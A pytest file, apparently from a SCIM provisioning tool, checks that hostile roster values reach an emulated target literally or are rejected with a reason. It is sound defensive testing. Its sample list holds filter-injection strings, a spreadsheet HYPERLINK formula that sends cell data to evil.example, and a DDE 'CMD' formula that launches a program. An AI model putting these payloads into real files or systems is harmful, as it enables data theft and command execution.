"""Hostile input end to end: roster values with quotes, backslashes, `" or userName pr`, spreadsheet formulas,
unicode, very long values, keys differing only in case, NUL and control characters go through the real pipeline into
the emulator. Every accepted value reaches the target literally, every rejected row has a reason, and every filter
the client sent parses back to one comparison whose value is one of the intended literals."""

from __future__ import annotations

import asyncio
import tempfile
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from scim2_models import ScimFilter
from scim2_models.path import CompareOperator, Comparison

from scim_pipeline.cli import main
from scim_pipeline.emulator import EmulatorConfig, EmulatorServer, RequestRecord, create_app
from scim_pipeline.scim import ConnectionSettings, ScimClient
from scim_pipeline.sources import FolderRosterSource
from scim_pipeline.sync.cycle import run_cycle
from scim_pipeline.sync.plan.mapping import build_roster
from scim_pipeline.sync.state import ProvisioningState
from tests.test_cli import summary_value

from .conftest import person, write_roster

ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
CLIENT_ID = "hostile-e2e"
CLIENT_SECRET = "hostile-e2e-secret-2b8d"

HOSTILE_LITERALS = [
    '" or userName pr',
    'x" or userName pr "',
    'O\'Brien "the" Quoted',
    "back\\slash\\\\double\\",
    '\\" or 1 eq 1',
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+44 20 7946 0000",
    "-Ann",
    "@SUM(A1:A9)",
    "Zoë Ångström-Łukasz 李小龍 🚀",
    "\u202eevil\u202c right-to-left override",
    'userName eq "admin" and active eq true',
    " leading and trailing spaces ",
    "%22%20or%20%22",
    "{{template}} {given_name}",
]


def target_value(resource: dict[str, Any], column: str) -> object:
    """The target's value for a roster column under the default mapping."""
    if column == "user_name":
        return resource.get("userName")
    if column == "external_id":
        return resource.get("externalId")
    if column == "given_name":
        return (resource.get("name") or {}).get("givenName")
    if column == "family_name":
        return (resource.get("name") or {}).get("familyName")
    if column == "display_name":
        return resource.get("displayName")
    if column == "title":
        return resource.get("title")
    if column == "email":
        work = [e for e in resource.get("emails", []) if e.get("type") == "work"]
        return work[0]["value"] if work else None
    if column in ("department", "employee_number"):
        name = "department" if column == "department" else "employeeNumber"
        return (resource.get(ENTERPRISE) or {}).get(name)
    raise AssertionError(f"no target attribute for {column}")


LITERAL_COLUMNS = ("user_name", "external_id", "given_name", "family_name", "display_name", "title", "department")


def assert_literal_on_target(row: dict[str, str], resource: dict[str, Any]) -> None:
    for column in LITERAL_COLUMNS:
        expected = row.get(column) or None
        assert target_value(resource, column) == expected, (
            f"{column}: {expected!r} became {target_value(resource, column)!r}"
        )


def sent_filters(records: Iterable[RequestRecord | dict[str, Any]]) -> list[str]:
    filters: list[str] = []
    for record in records:
        query = record["query"] if isinstance(record, dict) else record.query
        for name, values in parse_qs(query, keep_blank_values=True).items():
            if name.lower() == "filter":
                filters += values
    return filters


def assert_filters_are_single_comparisons(filters: Sequence[str], literals: set[str]) -> set[str]:
    """Each filter parses (scim2-models, not the emulator's parser) to ``attr eq "literal"``, or — for a literal
    holding a quote or a backslash, which some targets cannot match — to a ``co``/``sw``/``ew`` comparison on a
    fragment of it free of both; returns the literals looked up."""
    values: set[str] = set()
    unsafe = set('"\\')
    for text in filters:
        node = ScimFilter(text).ast
        assert isinstance(node, Comparison), f"{text!r} is not a single comparison"
        assert node.attr_path.attr in ("userName", "displayName")
        if node.op == CompareOperator.eq:
            assert node.value in literals, f"{text!r} compares with {node.value!r}, not an intended literal"
            values.add(str(node.value))
            continue
        assert node.op in (CompareOperator.co, CompareOperator.sw, CompareOperator.ew), text
        assert isinstance(node.value, str)
        assert not unsafe & set(node.value), f"{text!r}: a fragment look-up must carry no quote nor backslash"
        intended = {literal for literal in literals if unsafe & set(literal) and node.value in literal}
        assert intended, f"{text!r} compares with {node.value!r}, a fragment of no intended literal"
        values |= intended
    return values


def hostile_people() -> tuple[list[dict[str, str]], dict[str, str]]:
    """Accepted rows carrying the hostile literals, and rows that must be rejected (user_name -> why)."""
    accepted = [
        person(i, user_name=literal.strip() or f"blank{i}", title=literal, display_name=literal, given_name=literal)
        for i, literal in enumerate(HOSTILE_LITERALS)
    ]
    accepted += [
        person(100, title="T" * 1024, family_name="F" * 1024),
        person(101, user_name="o'brien+tag@example.com", email="o'brien+tag@example.com"),
    ]
    rejected = {
        "nul.in.title@example.com": "control character",
        "bell.in.name@example.com": "control character",
        "tab.in.display@example.com": "control character",
        "too.long@example.com": "characters long",
        "Case.Twin@example.com": "case-insensitive",
        "case.twin@example.com": "case-insensitive",
        " padded@example.com": "spaces",
    }
    bad_rows = [
        person(200, user_name="nul.in.title@example.com", title="before\x00after"),
        person(201, user_name="bell.in.name@example.com", given_name="ring\x07"),
        person(202, user_name="tab.in.display@example.com", display_name="a\tb"),
        person(203, user_name="too.long@example.com", title="L" * 1025),
        person(204, user_name="Case.Twin@example.com"),
        person(205, user_name="case.twin@example.com"),
        person(206, user_name=" padded@example.com"),
    ]
    return accepted + bad_rows, rejected


@pytest.mark.slow
def test_hostile_roster_reaches_the_target_literally_through_the_cli(
    tmp_path: Path, clean_env: dict[str, str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    rows, rejected = hostile_people()
    accepted = [row for row in rows if row["user_name"] not in rejected]
    groups = ['Admins" or displayName pr', "Gruppe für Ärger \\ 🚀", "=CMD|' /C calc'!A0"]
    memberships = [(groups[i % 3], row["user_name"]) for i, row in enumerate(accepted)]
    roster = tmp_path / "roster"
    write_roster(roster, [person(999)], [], [])
    config = EmulatorConfig(clients={CLIENT_ID: CLIENT_SECRET})
    with EmulatorServer(config) as server:
        for name, value in {
            "SCIM_BASE_URL": server.base_url,
            "SCIM_TOKEN_URL": server.token_url,
            "SCIM_CLIENT_ID": CLIENT_ID,
            "SCIM_CLIENT_SECRET": CLIENT_SECRET,
            "SCIM_ROSTER": str(roster),
            "SCIM_STATE_URL": f"sqlite:///{tmp_path / 'state.sqlite'}",
            "SCIM_SHARDS": "2",
        }.items():
            monkeypatch.setenv(name, value)
        assert main(["sync"]) == 0  # the state is no longer empty: later creates are not adopted by a full read
        # Half the hostile users already exist on the target (made by hand): their creates meet 409 and are looked up
        # by filter, so every such filter carries a hostile literal.
        existing = accepted[::2]
        for row in existing:
            server.emulator.store.create(
                "Users", {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": row["user_name"]}
            )
        server.emulator.store.create(
            "Groups", {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"], "displayName": groups[0]}
        )
        write_roster(roster, [person(999), *rows], groups, memberships)
        capsys.readouterr()
        server.emulator.clear_requests()

        first = main(["sync"])
        output = capsys.readouterr()
        assert first == 0, output.out + output.err
        assert summary_value(output.out, "rejected roster rows") == len(rejected)
        assert "Traceback" not in output.out + output.err
        second = main(["sync"])  # the adopted ones get the roster's values
        assert second == 0, capsys.readouterr().out
        log = server.emulator.requests
        users = {user["userName"]: user for user in server.emulator.store.dump()["Users"]}
        target_groups = {group["displayName"]: group for group in server.emulator.store.dump()["Groups"]}

    for row in accepted:
        assert row["user_name"] in users, f"{row['user_name']!r} did not reach the target"
        assert_literal_on_target(row, users[row["user_name"]])
    assert not {name.casefold() for name in rejected} & {name.casefold() for name in users}
    assert sorted(target_groups) == sorted(groups)
    name_of = {user["id"]: name for name, user in users.items()}
    for group in groups:
        members = {name_of[m["value"]] for m in target_groups[group].get("members", [])}
        assert members == {user for g, user in memberships if g == group}

    literals = {row["user_name"] for row in rows} | set(groups)
    values = assert_filters_are_single_comparisons(sent_filters(log), literals)
    assert {row["user_name"] for row in existing} | {groups[0]} <= values, "each pre-existing identity was looked up"

    # Every rejected row has its reason, as the roster_rejections asset shows it.
    built = build_roster(FolderRosterSource(roster).read(), None, shards=2)
    reasons = dict(zip(built.rejected["key"], built.rejected["reason"], strict=True))
    for user_name, why in rejected.items():
        assert why in reasons[user_name], (user_name, reasons.get(user_name))


# -- property: arbitrary text, run through the roster and a cycle into an in-process emulator -----------------------

_TEXT = st.text(st.characters(codec="utf-8"), max_size=30)
_VALUE = st.one_of(st.sampled_from(HOSTILE_LITERALS), _TEXT, st.just(""), st.text(min_size=1025, max_size=1030))
_NAME = st.one_of(st.sampled_from(HOSTILE_LITERALS), _TEXT, st.sampled_from(["ann", "ANN", "Ann", "bob"]))


@st.composite
def hostile_rosters(draw: st.DrawFn) -> list[dict[str, str]]:
    count = draw(st.integers(min_value=1, max_value=4))
    return [
        person(
            i,
            user_name=draw(_NAME),
            given_name=draw(_VALUE),
            family_name=draw(_VALUE),
            display_name=draw(_VALUE),
            title=draw(_VALUE),
            department=draw(_VALUE),
        )
        for i in range(count)
    ]


async def _sync_through_cycle(folder: Path) -> tuple[Any, list[RequestRecord], dict[str, Any]]:
    roster = build_roster(FolderRosterSource(folder).read(), None, shards=2)
    app = create_app(EmulatorConfig())
    seeded = {str(key) for key in roster.users["key"][::2]}
    for user_name in seeded:  # these meet 409 on create and are looked up by filter
        app.emulator.store.create(
            "Users", {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": user_name}
        )
    connection = ConnectionSettings(
        base_url="http://127.0.0.1:8999/scim/v2", client_id="scim-demo", client_secret="demo-secret"
    )
    try:
        async with ScimClient(connection, transport=httpx.ASGITransport(app=app)) as client:
            with ProvisioningState.open(":memory:") as state:
                for cycle in range(3):
                    report = await run_cycle(client, state, roster, run_id=f"hostile-{cycle}", adopt=False)
                    assert not report.failed, report.execution.failures
                    if report.plan.is_empty:
                        break
                assert report.plan.is_empty
        users = {user["userName"]: user for user in app.emulator.store.dump()["Users"]}
        return roster, app.emulator.requests, users
    finally:
        app.emulator.close()


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=hostile_rosters())
def test_any_roster_text_is_accepted_literally_or_rejected_with_a_reason(rows: list[dict[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        write_roster(Path(folder), rows)
        roster, log, users = asyncio.run(_sync_through_cycle(Path(folder)))

    rejected_rows = set(roster.rejected["row"]) if len(roster.rejected) else set()
    assert roster.rejected["reason"].notna().all()
    assert (roster.rejected["reason"].str.len() > 0).all()
    for row_number, row in enumerate(rows, start=2):  # CSV row numbers: the header is row 1
        if row_number in rejected_rows:
            continue
        assert row["user_name"] in users, f"accepted row {row_number} is missing on the target"
        assert_literal_on_target(row, users[row["user_name"]])
    assert len(rejected_rows) + len(roster.users) == len(rows)
    assert len(users) == len(roster.users)
    assert_filters_are_single_comparisons(sent_filters(log), {row["user_name"] for row in rows})
